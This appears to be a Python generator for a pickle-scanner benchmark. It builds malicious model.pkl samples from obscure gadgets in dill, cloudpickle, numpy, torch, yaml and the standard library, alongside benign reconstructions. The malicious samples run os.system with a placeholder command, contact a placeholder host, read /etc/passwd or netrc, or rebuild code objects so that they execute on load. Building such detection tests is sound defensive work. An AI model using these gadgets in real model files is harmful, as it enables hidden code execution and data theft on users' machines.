"""Less known callables in pickles: of dill, cloudpickle and odd corners of common libraries.

The honest twins are reconstructions that the standard library and projects really write.
"""

from __future__ import annotations

import array
import datetime as dt
import functools
import ipaddress
import marshal
import operator
import pathlib
import pickle
import random
import re
import struct
from collections.abc import Iterator

from bench.corpus.unit import COMMAND, HOST, MARKER, Family, Unit
from bench.corpus.writers import opcodes as op

PICKLE = Family("pickle_rare", "pickle.load")
EXPRESSION = f"__import__('os').system('{COMMAND}')"
CODE = f"import os; os.system('{COMMAND}')"
Call = tuple[str, str, tuple[object, ...]]
CALLS: tuple[Call, ...] = (
    ("dill._dill", "_eval_repr", (EXPRESSION,)),
    ("dill.source", "importable", ("x",)),
    ("cloudpickle.cloudpickle", "subimport", ("antigravity",)),
    ("joblib.numpy_pickle", "load", ("/etc/hostname",)),
    ("numpy.testing._private.utils", "measure", (f"__import__('os').system('{COMMAND}')",)),
    ("numpy.f2py.crackfortran", "param_eval", (EXPRESSION, {}, {}, None)),
    ("numpy.lib._datasource", "open", (f"http://{HOST}/x",)),
    ("numpy", "loadtxt", (f"http://{HOST}/x",)),
    ("numpy", "genfromtxt", ("/etc/passwd",)),
    ("pandas.io.common", "urlopen", (f"http://{HOST}/x",)),
    ("pandas.core.computation.eval", "eval", ("__import__('os')",)),
    ("sklearn.utils._testing", "check_docstring_parameters", ("x",)),
    ("sklearn.externals._packaging.version", "Version", ("1.0",)),
    ("scipy._lib._testutils", "FPUModeChangeWarning", ()),
    ("torch.distributed.rpc.internal", "_run_function", ()),
    ("torch.serialization", "load", ("/etc/hostname",)),
    ("torch.utils.model_zoo", "load_url", (f"http://{HOST}/x",)),
    ("torch._C._functorch", "nope", ()),
    ("torch.utils.cpp_extension", "load_inline", ("k", "int f(){return 0;}")),
    ("torch._inductor.codecache", "CppCodeCache.load", ("int f(){}",)),
    ("torch.fx.graph_module", "_exec_with_source", (CODE, {})),
    ("torch.fx.graph_module", "_forward_from_src", (f"{CODE}\ndef forward(self): pass", {})),
    ("transformers", "pipeline", ("text-generation",)),
    ("huggingface_hub", "hf_hub_download", ("evil/x", "x.pkl")),
    ("huggingface_hub", "snapshot_download", ("evil/x",)),
    ("requests", "get", (f"http://{HOST}/x",)),
    ("requests.api", "post", (f"http://{HOST}/x", "data")),
    ("yaml", "unsafe_load", (f"!!python/object/apply:os.system ['{COMMAND}']",)),
    ("pip._internal", "main", (["--version"],)),
    ("uuid", "_get_command_stdout", ("touch", MARKER)),
    ("_osx_support", "_read_output", (COMMAND,)),
    ("ctypes.util", "find_library", ("c",)),
    ("gzip", "open", (MARKER, "w")),
    ("bz2", "open", (MARKER, "w")),
    ("lzma", "open", (MARKER, "w")),
    ("codecs", "open", (MARKER, "w")),
    ("tokenize", "open", ("/etc/passwd",)),
    ("logging.config", "fileConfig", ("/etc/passwd",)),
    ("runpy", "run_module", ("this",)),
    ("pydoc", "writedoc", ("os",)),
    ("typing", "get_type_hints", ()),
    ("wsgiref.simple_server", "make_server", ("127.0.0.1", 0, None)),
    ("http.client", "HTTPConnection.connect", ()),
    ("socketserver", "TCPServer", (["127.0.0.1", 0], None)),
    ("xml.dom.minidom", "parse", ("/etc/passwd",)),
    ("netrc", "netrc", ("/etc/passwd",)),
    ("zipimport", "zipimporter", ("/etc/hostname",)),
    ("idlelib.calltip", "get_entity", (EXPRESSION,)),
    ("lib2to3.pgen2.grammar", "Grammar.loads", ()),
    ("os", "truncate", (MARKER, 0)),
    ("os", "makedirs", (f"{MARKER}/a",)),
    ("os", "rename", (MARKER, "b")),
    ("os", "open", (MARKER, 65)),
    ("shutil", "make_archive", (MARKER, "zip", ".")),
    ("shutil", "chown", (".", 0)),
    ("multiprocessing.popen_fork", "Popen", ("x",)),
    ("asyncio.base_events", "BaseEventLoop.run_forever", ()),
    ("atexit", "register", ()),
    ("builtins", "help", ("os",)),
    ("builtins", "input", ()),
)
# Seen to do nothing, or to fail before anything, in the run that checked them.
DROPPED: frozenset[str] = frozenset(
    {
        "scipy._lib._testutils.FPUModeChangeWarning",
        "sklearn.externals._packaging.version.Version",
        "sklearn.utils._testing.check_docstring_parameters",
        "torch._C._functorch.nope",
        "typing.get_type_hints",
        "http.client.HTTPConnection.connect",
        "lib2to3.pgen2.grammar.Grammar.loads",
        "asyncio.base_events.BaseEventLoop.run_forever",
        "atexit.register",
        "builtins.input",
        "dill.source.importable",
        "torch.distributed.rpc.internal._run_function",
    }
)


def units(rng: random.Random) -> Iterator[Unit]:
    for module, attribute, arguments in CALLS:
        if f"{module}.{attribute}" in DROPPED:
            continue
        body = op.call(op.stacked(module, attribute), *map(op.value, arguments))
        if rng.random() < 0.5:
            state = [(op.text("model"), op.value([rng.random()] * 3)), (op.text("meta"), body)]
            body = op.pack_dict(state)
        variant = f"{module}-{attribute}".replace(".", "-").replace("_", "-").strip("-").lower()
        payload = f"calls {module}.{attribute}"
        yield PICKLE.bad("rare-call", variant, {"model.pkl": op.pickle4(body)}, payload=payload)
    yield from _functions()
    yield from _honest(rng)


def _code_parts() -> list[bytes]:
    """CodeType's arguments for a function that runs the command (Python 3.11 and later)."""
    code = compile(
        f"def f():\n    __import__('os').system('{COMMAND}')\n", "<m>", "exec"
    ).co_consts[0]
    values: list[object] = [0, 0, 0, 0, code.co_stacksize, code.co_flags, code.co_code]
    values += [code.co_consts, code.co_names, code.co_varnames, "m.py", "f", "f", 1]
    values += [code.co_linetable, code.co_exceptiontable, (), ()]
    return [op.value(one) for one in values]


def _functions() -> Iterator[Unit]:
    """A function is rebuilt from its code, then called."""
    maker = op.call(op.stacked("cloudpickle.cloudpickle", "_builtin_type"), op.text("CodeType"))
    code = op.call(maker, *_code_parts())
    make = op.stacked("cloudpickle.cloudpickle", "_make_function")
    function = op.call(make, code, op.EMPTY_DICT, op.text("f"), op.NONE, op.NONE)
    yield PICKLE.bad("function-call", "cloudpickle", {"model.pkl": op.pickle4(op.call(function))})
    maker = op.call(op.stacked("dill._dill", "_load_type"), op.text("CodeType"))
    code = op.call(maker, *_code_parts())
    make = op.stacked("dill._dill", "_create_function")
    function = op.call(make, code, op.EMPTY_DICT, op.text("f"), op.NONE, op.NONE)
    yield PICKLE.bad("function-call", "dill", {"model.pkl": op.pickle4(op.call(function))})
    function = op.call(op.stacked("types", "FunctionType"), code, op.EMPTY_DICT)
    lazy = op.call(op.stacked("builtins", "map"), function, op.value([]))
    yield PICKLE.bad(
        "function-call", "types-in-map", {"model.pkl": op.pickle4(op.call(function) + b"0" + lazy)}
    )
    module = op.call(op.stacked("cloudpickle.cloudpickle", "subimport"), op.text("os"))
    got = op.call(op.stacked("builtins", "getattr"), module, op.text("system"))
    yield PICKLE.bad(
        "function-call",
        "subimport-getattr",
        {"model.pkl": op.pickle4(op.call(got, op.text(COMMAND)))},
    )
    raw = marshal.dumps(compile(CODE, "<m>", "exec"))
    loaded = op.call(op.stacked("marshal", "loads"), op.data(raw))
    kind = op.call(op.stacked("dill._dill", "_load_type"), op.text("FunctionType"))
    yield PICKLE.bad(
        "function-call",
        "load-type-marshal",
        {"model.pkl": op.pickle4(op.call(op.call(kind, loaded, op.EMPTY_DICT)))},
    )
    skeleton = op.call(
        op.stacked("cloudpickle.cloudpickle", "_make_skeleton_class"),
        op.stacked("builtins", "type"),
        op.text("M"),
        op.pack_tuple([op.stacked("builtins", "object")]),
        op.EMPTY_DICT,
        op.NONE,
        op.NONE,
    )
    reduced = op.build(
        op.call(skeleton), op.pack_dict([(op.text("__setstate__"), op.stacked("os", "system"))])
    )
    yield PICKLE.bad(
        "function-call",
        "skeleton-setstate",
        {"model.pkl": op.pickle4(op.build(reduced, op.text(COMMAND)))},
    )


def _honest(rng: random.Random) -> Iterator[Unit]:
    def good(variant: str, body: bytes) -> Unit:
        return PICKLE.good("reconstruction", variant, {"object.pkl": body})

    samples: dict[str, object] = {
        "pattern": re.compile(r"\w+|[^\w\s]", re.UNICODE),
        "path": {
            "root": pathlib.PurePosixPath("/data/models"),
            "file": pathlib.PurePosixPath("x/y.txt"),
        },
        "array": array.array("d", [rng.random() for _ in range(40)]),
        "itemgetter": {"key": operator.itemgetter("a"), "attr": operator.attrgetter("real")},
        "partial": functools.partial(max, 0),
        "address": [ipaddress.ip_address("10.0.0.1"), ipaddress.ip_network("10.0.0.0/8")],
        "zone": dt.timezone(dt.timedelta(hours=2)),
        "range": range(10),
        "exception": ValueError("bad input"),
        "iterators": [iter([1, 2, 3]), iter((4, 5)), reversed([1, 2])],
        "bool-types": [bool, bytes, complex, frozenset, type(None)],
        "methods": [str.lower, "-".join, dict.fromkeys],
        "flags": re.IGNORECASE | re.DOTALL,
    }
    for variant, value in samples.items():
        for protocol in (2, 4):
            yield good(f"{variant}-p{protocol}", pickle.dumps(value, protocol))
    names = ("threshold", "classes", "weights")
    for module, name in (
        ("my_project.models", "Config"),
        ("src.vocab", "Vocabulary"),
        ("__main__", "Args"),
        ("train", "Scaler"),
        ("utils.tokenizer", "Tokenizer"),
    ):
        state = op.pack_dict(
            [(op.text(n), op.value([rng.random() for _ in range(9)])) for n in names]
        )
        instance = op.build(op.stacked(module, name) + op.EMPTY_TUPLE + op.NEWOBJ, state)
        body = op.pickle4(instance)
        yield PICKLE.good(
            "own-class",
            f"{module}-{name}".replace(".", "-").replace("_", "").lower(),
            {"object.pkl": body},
            expect="suspicious",
        )
    old = (
        b"ccopy_reg\n_reconstructor\n(c__main__\nArgs\nc__builtin__\nobject\nNtR(dS'lr'\nF0.1\nsb."
    )
    yield PICKLE.good("own-class", "old-reconstructor", {"args.pkl": old}, expect="suspicious")
    head = op.call(
        op.name("copyreg", "_reconstructor"),
        op.name("argparse", "Namespace"),
        op.name("builtins", "object"),
        op.NONE,
    )
    yield good(
        "namespace", op.pickle2(op.build(head, op.pack_dict([(op.long_text("lr"), op.real(0.1))])))
    )
    counted = struct.pack("<d", 0.5)
    scalar = op.call(
        op.name("numpy.core.multiarray", "scalar"),
        op.call(op.name("numpy", "dtype"), op.long_text("f8"), b"\x89", b"\x88"),
        op.data(counted),
    )
    yield good("numpy-scalar", op.proto(3) + scalar + b".")
